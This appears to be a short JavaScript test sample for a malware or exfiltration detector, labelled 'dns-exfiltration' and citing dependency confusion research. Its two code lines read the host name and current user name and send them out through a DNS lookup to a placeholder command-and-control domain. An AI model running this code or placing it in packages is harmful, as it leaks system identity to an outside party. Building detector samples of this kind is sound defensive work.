// expect: dns-exfiltration | source: dependency confusion, Birsan 2021
const os = require("os");
require("dns").lookup(`${os.hostname()}.${os.userInfo().username}.c2.example.invalid`, () => {});
